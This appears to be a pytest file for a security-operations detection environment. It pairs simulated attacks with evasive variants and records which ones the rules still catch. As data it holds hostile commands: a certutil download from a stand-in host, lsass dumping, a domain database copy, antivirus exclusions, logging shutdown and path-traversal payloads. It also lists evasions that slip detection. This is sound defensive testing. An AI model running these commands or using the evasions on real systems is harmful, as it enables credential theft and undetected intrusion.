"""Ways around each category: what is caught all the same, and what slips, and why.

A way that slips is no defect of a test: it says where the rules end. Each is plausible,
so a generator or an attacker may make it, and the label is then what stands here.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from attacks import (
    KNOWN_BAD,
    Event,
    beats,
    changed,
    failed,
    flow,
    guesses,
    incident,
    label,
    objections,
    started,
)
from traces import (
    arrived,
    asked,
    cloud_call,
    downloads,
    granted,
    key_set,
    knocks,
    mailed,
    posted,
    proxied,
    questions,
    rewritten,
    seen_in,
    task_made,
)

from opensoc_env.scenario import load_library

PAGE = Path(__file__).parents[2] / "docs" / "adversarial.md"
STRENGTH = ("dismiss", "monitor", "block_ip", "quarantine_host", "escalate")
PUBLIC = r"C:\Users\Public\a.exe"
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\a"
FETCH = f"certutil.exe -urlcache -f https://stage.example/a {PUBLIC}"
BOB_SENDS = flow(host="app-01", user="bob", ip="203.0.113.40")
LSASS = "procdump64.exe -ma lsass.exe a.dmp"


@dataclass(frozen=True)
class Evasion:
    """An attack as it is, the same one with a trick, and what the rules say of that.

    Attributes:
        why: Why it slips; empty if it is caught.
    """

    plain: list[Event]
    tricky: list[Event]
    says: str
    why: str = ""


def fetched(**facts: Any) -> Event:
    return changed(started("certutil.exe", FETCH, parent="cmd.exe"), **facts)


def ran(when: float) -> Event:
    facts: dict[str, Any] = {
        "parent": "explorer.exe",
        "executable": PUBLIC,
        "log_id": "r",
    }
    return started("a.exe", "a.exe", when=when, **facts)


def on_server(parent: str, image: str = "cmd.exe") -> Event:
    facts: dict[str, Any] = {"parent": parent, "host": "app-01", "user": "olga"}
    return started(image, "x /c whoami", when=30, **facts)


def command(text: str, **facts: Any) -> list[Event]:
    image = text.split(" ", 1)[0]
    return [started(image, text, parent="cmd.exe", **facts)]


def shell(text: str = "powershell.exe -nop -w hidden", **facts: Any) -> list[Event]:
    return [started("powershell.exe", text, **facts)]


def rmm(image: str, **facts: Any) -> list[Event]:
    path = {"parent": "explorer.exe", "executable": rf"C:\Users\alice\{image}"}
    return [started(image, image, **{**path, **facts})]


LONG = "powershell.exe -nop -enc " + "QQBB" * 1_100
KNOCKS: dict[str, Any] = {
    "fields__user__name": "svc-scan",
    "fields__process__name": "nessusd.exe",
}
FIVE_HOURS = {"duration": 18_000_000_000_000}
JITTER = [
    flow(f"b{n}", n * 300 + n % 3 * 110, sent=400, ip=KNOWN_BAD) for n in range(9)
]
TWO_HOSTS = [
    flow(f"b{n}", n * 300, sent=400, ip=KNOWN_BAD, host=f"ws-0{1 + n % 2}")
    for n in range(10)
]
PARTS = [flow(f"f{n}", n * 60, sent=15_000_000) for n in range(6)]
PLACES = [
    flow(f"f{n}", n, sent=25_000_000, ip=f"203.0.113.{100 + n}") for n in range(6)
]
BASE_32 = [
    changed(
        q, fields__dns__question__name=f"{n:02}mfrggzdfmztwq2lkmfrggzdf.relay.example"
    )
    for n, q in enumerate(questions(12, 10))
]
NAMES = [failed(f"l{n}", n * 5, user=f"user{n}") for n in range(10)]
FORMS: dict[str, Any] = {
    "fields__email_auth__dmarc": "pass",
    "fields__url__domain": "forms.example",
}
TRAVEL = [seen_in("a", 0, "NL", 52.37, 4.9), seen_in("b", 3_600, "US", 40.71, -74.0)]
NEAR = [TRAVEL[0], seen_in("b", 3_600, "NL", 51.92, 4.48)]
DCSYNC = command('ntdsutil.exe "ac i ntds" ifm "create full c:\\a" q q', host="dc-01")
SHADOW = command("vssadmin.exe create shadow /for=c:", host="dc-01")
ADDED = [granted("g", 0, "group_member_added")]
TAKEN_BACK = [*ADDED, granted("h", 60, "group_member_removed")]
COM = (
    r"HKCU\Software\Classes\CLSID\{0358b920-0ac7-461f-98f4-58e32cd89148}\InprocServer32"
)
BUILT: dict[str, Any] = {"pe": {"original_file_name": "anydesk.exe"}}

EVASIONS: dict[str, Evasion] = {
    "malware_execution: renamed shell": Evasion(
        shell(),
        [started("update.exe", pe={"original_file_name": "powershell.exe"})],
        "quarantine_host",
    ),
    "malware_execution: long encoded command": Evasion(
        shell(LONG, parent="explorer.exe"),
        shell(LONG.replace("-nop", "-NoP"), parent="explorer.exe"),
        "monitor",
    ),
    "malware_execution: broken lineage": Evasion(
        shell(),
        shell(parent="explorer.exe"),
        "dismiss",
        "a shell that a person starts looks the same",
    ),
    "malware_execution: lineage over WMI": Evasion(
        shell(),
        shell(parent="wmiprvse.exe"),
        "dismiss",
        "without a logon from another machine management tools do this",
    ),
    "lolbin_abuse: renamed program": Evasion(
        [fetched()],
        [
            fetched(
                fields__process__name="u.exe",
                fields__process__pe={"original_file_name": "certutil.exe"},
            )
        ],
        "monitor",
    ),
    "lolbin_abuse: alternate stream": Evasion(
        [fetched()], command(f"{FETCH}:b.exe"), "monitor"
    ),
    "lolbin_abuse: run within the hour": Evasion(
        [fetched(), ran(60)], [fetched(), ran(3_500)], "quarantine_host"
    ),
    "lolbin_abuse: run later": Evasion(
        [fetched(), ran(60)],
        [fetched(), ran(3_700)],
        "monitor",
        "what runs more than an hour later is not tied to the download",
    ),
    "c2_beacon: name of a content network": Evasion(
        beats(),
        [changed(b, fields__destination__domain="cdn.vendor.example") for b in beats()],
        "monitor",
    ),
    "c2_beacon: jitter": Evasion(
        beats(ip=KNOWN_BAD), JITTER, "dismiss", "gaps that vary by a third are not even"
    ),
    "c2_beacon: few long sessions": Evasion(
        beats(ip=KNOWN_BAD),
        [changed(flow(ip=KNOWN_BAD, sent=900), fields__event=FIVE_HOURS)],
        "quarantine_host",
    ),
    "c2_beacon: spread over machines": Evasion(
        beats(ip=KNOWN_BAD), TWO_HOSTS, "dismiss", "flows are per machine"
    ),
    "dns_tunnel: other alphabet": Evasion(
        questions(12, 10), BASE_32, "quarantine_host"
    ),
    "dns_tunnel: slow drip": Evasion(
        questions(12, 10),
        questions(24, 60),
        "dismiss",
        "fewer than the threshold in any five minutes",
    ),
    "dns_tunnel: several domains": Evasion(
        questions(12, 10), questions(24, 10, 3), "quarantine_host"
    ),
    "data_exfiltration: split into parts": Evasion([flow()], PARTS, "quarantine_host"),
    "data_exfiltration: outside the backup window": Evasion(
        [flow()],
        [changed(BOB_SENDS, timestamp="2026-03-02T22:00:00Z")],
        "quarantine_host",
    ),
    "data_exfiltration: split over addresses": Evasion(
        [flow()], PLACES, "monitor", "pieces to several addresses prove less"
    ),
    "data_exfiltration: personal tenant": Evasion(
        [flow()],
        [changed(BOB_SENDS, fields__destination__domain="personal.vendor.example")],
        "dismiss",
        "a record binds an address, and tenants share it",
    ),
    "phishing: code instead of a link": Evasion(
        [mailed()], [mailed(fields__url=None)], "monitor"
    ),
    "phishing: opened by a code": Evasion(
        [mailed(), posted()],
        [mailed(fields__url=None), posted()],
        "monitor",
        "nothing ties a page to a message without a link",
    ),
    "phishing: honest host": Evasion(
        [mailed(), posted()],
        [mailed(**FORMS), posted("forms.example")],
        "dismiss",
        "the sender is checked and the page is not known",
    ),
    "brute_force: one try per account": Evasion(guesses(), NAMES, "block_ip"),
    "brute_force: low and slow": Evasion(
        guesses(), guesses(20, gap=90), "dismiss", "fewer than ten in ten minutes"
    ),
    "brute_force: many addresses": Evasion(
        guesses(), proxied(30), "monitor", "there is no one address to block"
    ),
    "impossible_travel: proxy in the same country": Evasion(
        TRAVEL, NEAR, "dismiss", "less than 500 km is no travel"
    ),
    "credential_dumping: renamed tool": Evasion(
        command(LSASS),
        [
            started(
                "d.exe",
                LSASS,
                parent="a.exe",
                pe={"original_file_name": "procdump64.exe"},
            )
        ],
        "quarantine_host",
    ),
    "credential_dumping: snapshot of the directory": Evasion(
        DCSYNC, SHADOW, "escalate"
    ),
    "lateral_movement: WinRM instead of a service": Evasion(
        [arrived(), on_server("wsmprovhost.exe")],
        [arrived(), on_server("winrshost.exe")],
        "quarantine_host",
    ),
    "lateral_movement: WMI instead of a service": Evasion(
        [arrived(), on_server("wsmprovhost.exe")],
        [arrived(), on_server("wmiprvse.exe")],
        "quarantine_host",
    ),
    "lateral_movement: real credentials in office hours": Evasion(
        [arrived(), on_server("wsmprovhost.exe")],
        [arrived()],
        "dismiss",
        "a logon alone is what administrators do",
    ),
    "privilege_escalation: granted and taken back": Evasion(
        ADDED, TAKEN_BACK, "escalate"
    ),
    "persistence: name of a vendor": Evasion(
        [key_set(RUN, PUBLIC)],
        [key_set(RUN, r"C:\Users\alice\AppData\Local\Google\GoogleUpdate.exe")],
        "monitor",
    ),
    "persistence: trigger far ahead": Evasion(
        [task_made(PUBLIC)], [task_made(f"{PUBLIC} /at 2031-01-01")], "monitor"
    ),
    "persistence: COM class": Evasion(
        [key_set(RUN, PUBLIC)],
        [key_set(COM, r"C:\Users\alice\AppData\a.dll")],
        "monitor",
    ),
    "ransomware: plain extension": Evasion(
        rewritten(6), rewritten(6, extension="txt"), "quarantine_host"
    ),
    "ransomware: dense extension": Evasion(
        rewritten(6),
        rewritten(20, extension="xlsx"),
        "dismiss",
        "office documents are as dense as encrypted ones",
    ),
    "ransomware: parts of files": Evasion(
        rewritten(6), rewritten(20, entropy=5), "dismiss", "the files are not dense"
    ),
    "ransomware: slow": Evasion(
        rewritten(6), rewritten(20, gap=20), "dismiss", "fewer than five in a minute"
    ),
    "defense_impairment: narrow exclusion": Evasion(
        shell("powershell.exe Add-MpPreference -ExclusionPath C:", parent="a.exe"),
        shell(r"powershell.exe Add-MpPreference -ExclusionPath C:\a\b", parent="a.exe"),
        "monitor",
    ),
    "defense_impairment: forwarder stopped": Evasion(
        command("sc.exe stop sysmon64"),
        command("sc.exe stop splunkforwarder"),
        "monitor",
    ),
    "insider: slowly": Evasion(
        downloads(12, 10), downloads(30, 60), "dismiss", "few files in three minutes"
    ),
    "insider: printed": Evasion(
        downloads(12, 10),
        command("splwow64.exe 8192", user="carol"),
        "dismiss",
        "no sensor sees what is printed or photographed",
    ),
    "vulnerability_scan: name of the scanner": Evasion(
        knocks(12), knocks(12, **KNOCKS), "monitor"
    ),
    "vulnerability_scan: slow": Evasion(
        knocks(12), knocks(30, gap=60), "dismiss", "few ports in five minutes"
    ),
    "exploit_attempt: empty answer with 200": Evasion(
        [asked("..%2f..%2fetc/passwd")],
        [asked("..%2f..%2fetc/passwd", 200)],
        "block_ip",
    ),
    "exploit_attempt: encoded twice": Evasion(
        [asked("..%2f..%2fetc/passwd")],
        [asked("%252e%252e%252fetc/passwd")],
        "block_ip",
    ),
    "exploit_attempt: half encoded": Evasion(
        [asked("..%2f..%2fetc/hosts")],
        [asked(".%2e/.%2e/etc/hosts")],
        "block_ip",
    ),
    "rmm_misuse: renamed": Evasion(
        rmm("anydesk.exe"), rmm("u.exe", **BUILT), "monitor"
    ),
    "rmm_misuse: renamed and without a header": Evasion(
        rmm("anydesk.exe"), rmm("u.exe"), "dismiss", "nothing tells what it is"
    ),
    "cloud_control_plane: other region": Evasion(
        [cloud_call("StopLogging")],
        [cloud_call("StopLogging", region="ap-east-1")],
        "escalate",
    ),
    "cloud_control_plane: chain of roles": Evasion(
        [cloud_call("CreateAccessKey")],
        [cloud_call("AssumeRole")],
        "dismiss",
        "taking a role is what every pipeline does",
    ),
}
CAUGHT = [name for name, evasion in EVASIONS.items() if not evasion.why]
SLIPS = [name for name, evasion in EVASIONS.items() if evasion.why]


@pytest.mark.parametrize("name", CAUGHT)
def test_it_is_caught_as_the_plain_attack_is(name: str) -> None:
    evasion = EVASIONS[name]

    assert label(*evasion.plain) == label(*evasion.tricky) == evasion.says


@pytest.mark.parametrize("name", SLIPS)
def test_it_slips_and_the_rules_say_so(name: str) -> None:
    evasion = EVASIONS[name]
    plain = label(*evasion.plain)

    assert label(*evasion.tricky) == evasion.says
    assert STRENGTH.index(plain) > STRENGTH.index(evasion.says)


@pytest.mark.parametrize("name", EVASIONS)
def test_it_could_have_happened(name: str) -> None:
    assert objections(incident(*EVASIONS[name].tricky)) == []


@pytest.mark.parametrize("name", SLIPS)
def test_it_stands_in_the_list_of_what_slips(name: str) -> None:
    assert f"| {name} | {EVASIONS[name].why} |" in PAGE.read_text("utf-8")


def test_a_page_opened_days_after_its_message_fits_no_window() -> None:
    late = changed(posted(), timestamp="2026-03-05T10:00:00Z")

    assert objections(incident(mailed(), late)) == ["events.timestamp"]


def test_every_category_has_an_evasion() -> None:
    categories = {scenario.category for scenario in load_library().scenarios}
    tried = {name.partition(":")[0] for name in EVASIONS}

    assert categories - tried <= {"benign_noise"}
